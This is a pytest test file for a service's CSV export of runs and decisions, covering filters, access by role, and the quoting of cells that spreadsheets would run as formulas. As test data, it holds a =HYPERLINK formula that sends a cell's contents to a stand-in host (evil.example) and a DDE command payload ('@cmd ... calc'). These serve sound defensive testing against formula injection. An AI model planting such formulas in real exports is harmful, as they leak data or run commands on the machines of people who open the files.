"""CSV export of runs and decisions (issue 13): the runs list's filters, every decision with the
one in force marked, owners' own rows only, and no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from acceptance.service.accounts import create_token, user_by_email
from acceptance.service.decisions import record_decision
from acceptance.service.models import Run, Submission
from acceptance.service.runs_export import COLUMNS, safe_cell
from tests.dashboard_support import COMMIT, OTHER, OWNER, REVIEWER, Service, client_for

HOSTILE_SUPPLIER = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _rows(body: bytes) -> list[dict[str, str]]:
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")  # spreadsheets then read the accents right
    reader = csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))
    assert tuple(reader.fieldnames or ()) == COLUMNS
    rows = list(reader)
    # every row has exactly the header's cells: none left over (key None), none missing
    assert all(None not in row and None not in row.values() for row in rows)
    return rows


def _token(service: Service, email: str) -> dict[str, str]:
    with service.db.session() as db:
        return {"Authorization": f"Bearer {create_token(db, email)}"}


def _decide(service: Service, run_id: str, decision: str, reason: str | None = None) -> None:
    with service.db.session() as db:
        record_decision(db, user_by_email(db, OWNER), db.get(Run, run_id), decision, reason)


@pytest.mark.parametrize("text,cell", [
    ("=1+1", "'=1+1"), ("+33 1 23", "'+33 1 23"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Acme Ltd", "Acme Ltd"), ("", ""), (None, ""),
])  # fmt: skip
def test_cells_that_would_be_formulas_are_quoted(text: str | None, cell: str) -> None:
    assert safe_cell(text) == cell


@given(st.text())
def test_no_cell_starts_a_formula(text: str) -> None:
    assert not safe_cell(text).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_the_api_export_has_every_decision_and_marks_the_one_in_force(service: Service) -> None:
    _decide(service, service.ids.accepted, "changes_requested", "One test is missing.")
    _decide(service, service.ids.accepted, "accepted")
    reply = service.app.test_client().get("/api/v1/runs.csv", headers=_token(service, OWNER))
    assert reply.status_code == 200 and reply.mimetype == "text/csv"
    assert reply.headers["Content-Disposition"] == 'attachment; filename="runs.csv"'
    rows = _rows(reply.data)
    mine = [r for r in rows if r["run_id"] == service.ids.accepted]
    assert [(r["decision"], r["decision_in_force"]) for r in mine] == [
        ("accepted", "true"),
        ("changes_requested", "false"),
    ]
    assert mine[0]["accepted_delivery"] == "true" and mine[0]["commit"] == COMMIT
    assert mine[1]["reason"] == "One test is missing." and mine[0]["decided_by"] == OWNER
    undecided = [r for r in rows if r["run_id"] == service.ids.queued]
    assert len(undecided) == 1 and undecided[0]["decision"] == ""
    # The runtime that judged each run, last; none for a run not judged yet.
    assert {(r["runtime"], r["runtime_source"]) for r in mine} == {("python", "detected")}
    assert (undecided[0]["runtime"], undecided[0]["runtime_source"]) == ("", "")
    # Owners see their own opportunities' rows only; reviewers see every run.
    assert service.ids.other_run not in {r["run_id"] for r in rows}
    everything = service.app.test_client().get(
        "/api/v1/runs.csv", headers=_token(service, REVIEWER)
    )
    assert service.ids.other_run in {r["run_id"] for r in _rows(everything.data)}
    theirs = service.app.test_client().get("/api/v1/runs.csv", headers=_token(service, OTHER))
    assert {r["run_id"] for r in _rows(theirs.data)} == {service.ids.other_run}


def test_the_api_export_takes_the_runs_list_filters(service: Service) -> None:
    client, headers = service.app.test_client(), _token(service, REVIEWER)
    rows = _rows(client.get("/api/v1/runs.csv?verdict=rejected", headers=headers).data)
    assert {r["run_id"] for r in rows} == {service.ids.rejected, service.ids.other_run}
    rows = _rows(client.get(f"/api/v1/runs.csv?opportunity={service.ids.opportunity}&status=running",
                            headers=headers).data)  # fmt: skip
    assert [r["run_id"] for r in rows] == [service.ids.running]
    bad = client.get("/api/v1/runs.csv?colour=blue", headers=headers)
    assert bad.status_code == 422 and "unknown filter" in bad.json["detail"]


def test_supplier_text_never_becomes_a_formula(service: Service) -> None:
    with service.db.session() as db:
        submission = db.get(Submission, service.ids.submission)
        assert submission is not None
        submission.supplier = HOSTILE_SUPPLIER
    _decide(service, service.ids.rejected, "rejected", "@cmd|' /C calc'!A0")
    reply = service.app.test_client().get("/api/v1/runs.csv", headers=_token(service, OWNER))
    rows = _rows(reply.data)
    assert {r["supplier"] for r in rows} == {"'" + HOSTILE_SUPPLIER}
    assert [r["reason"] for r in rows if r["decision"] == "rejected"] == ["'@cmd|' /C calc'!A0"]


def test_the_dashboard_exports_what_the_runs_list_shows(service: Service) -> None:
    client = client_for(service, OWNER)
    page = client.get("/runs?verdict=rejected").get_data(as_text=True)
    assert 'href="/runs.csv?verdict=rejected"' in page
    reply = client.get("/runs.csv?verdict=rejected")
    assert reply.status_code == 200 and reply.mimetype == "text/csv"
    assert [r["run_id"] for r in _rows(reply.data)] == [service.ids.rejected]
    assert len(_rows(client.get("/runs.csv").data)) == 5  # every page, the owner's runs only
    bad = client_for(service, OWNER, "fr").get("/runs.csv?from=yesterday")
    assert bad.status_code == 422 and "Les filtres n’ont pas pu être lus" in bad.get_data(
        as_text=True
    )
